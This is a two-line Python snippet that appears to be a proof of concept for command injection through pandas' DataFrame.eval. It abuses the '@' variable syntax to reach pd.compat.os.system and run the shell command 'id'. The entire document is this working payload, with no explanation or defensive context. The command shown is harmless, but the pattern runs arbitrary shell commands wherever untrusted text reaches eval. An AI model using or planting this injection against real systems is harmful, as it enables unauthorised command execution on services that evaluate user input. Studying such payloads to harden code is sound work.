import pandas as pd
pd.DataFrame({"a": [1]}).eval("@pd.compat.os.system('id')")
